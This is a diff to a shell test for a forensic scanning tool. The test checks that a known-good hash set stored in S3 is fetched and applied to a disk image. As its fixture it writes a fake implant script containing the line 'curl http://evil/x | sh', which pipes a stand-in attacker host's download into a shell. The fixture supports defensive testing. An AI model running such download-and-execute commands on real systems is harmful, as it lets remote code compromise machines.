@@ -20,10 +20,11 @@
 #   land in S3 (events equal to a plain `deltair scan`, every object as COMPLETE's SHA-256
 #   says), COMPLETE the last PUT radosgw logged; a stale object of a killed run is deleted
 #   first; a redelivered job is a no-op; a missing s3:// baseline fails the job with that
-#   reason; the config's sse/sse_kms_key_id encrypt every result object (the server says).
+#   reason; the config's sse/sse_kms_key_id encrypt every result object (the server says);
+#   a job's known-good set given as s3:// is fetched as a baseline is, and used.
 # Oracle: sha256sum, md5sum, and botocore's own S3 client on the same radosgw.
 . "$TOP/tests/cli/lib.sh"
-need timeout sha256sum md5sum mke2fs jq zcat
+need timeout sha256sum md5sum mke2fs jq zcat hashdeep
 PY=/usr/bin/python3
 "$PY" -c 'import botocore' 2> /dev/null || skip "no python3-botocore"
 
@@ -268,11 +269,25 @@ dt worker --queue spool:sp --once --max-receives 1 --work-dir "$PWD/work"
 expect_rc 0 "worker --once (missing baseline)"
 grep -q "no such object" sp/failed/*.reason 2> /dev/null || fail "no 'no such object' reason: $(cat sp/failed/*.reason; cat err)"
 
-# The config's server-side encryption applies to every object of a result.
+# The config's server-side encryption applies to every object of a result. The job also
+# names a known-good set in S3 (a hashdeep list of the implant's bytes, as a .kg): fetched
+# like a baseline, it makes the implant known_good.
+printf '#!/bin/sh\ncurl http://evil/x | sh\n' > tool
+hashdeep -c md5,sha256 tool > tools.txt || die "hashdeep failed"
+dt_ok known-good build -o tools.kg tools.txt
+dt_ok store put s3://results sets/tools.kg tools.kg
 printf 'sse = aws:kms\nsse_kms_key_id = testkey-2\noutput = s3://results/enc\n' > w.conf
-dt submit --queue spool:sp --case IR-11 --baseline s3://results/baselines/gold.dtree "$PWD/incident.img"
+dt submit --queue spool:sp --case IR-11 --baseline s3://results/baselines/gold.dtree \
+	--known-good s3://results/sets/tools.kg "$PWD/incident.img"
 dt worker --queue spool:sp --once --config w.conf --work-dir "$PWD/work"
 expect_rc 0 "worker --once with SSE from its config"
+grep -q '"stage":"known_good","msg":"fetched s3://results/sets/tools.kg"' err ||
+	fail "the known-good set was not fetched from s3://: $(cat err)"
+echo 'import sys
+sys.stdout.buffer.write(c.get_object(Bucket=B, Key="enc/IR-11/incident.img/events.jsonl.gz")["Body"].read())' |
+	boto > ir11.jsonl.gz || die "botocore cannot fetch IR-11's events"
+got=$(zcat ir11.jsonl.gz | jq -c 'select(.event == "file" and .path == "/bin/implant") | .provenance | [.reason, .trust]')
+[ "$got" = '["known_good","corroborated"]' ] || fail "IR-11 with an s3:// set: the implant is $got"
 got=$(echo '
 keys = [o["Key"] for o in c.list_objects_v2(Bucket=B, Prefix="enc/IR-11/")["Contents"]]
 print(len(keys), set((h.get("ServerSideEncryption"), h.get("SSEKMSKeyId"))
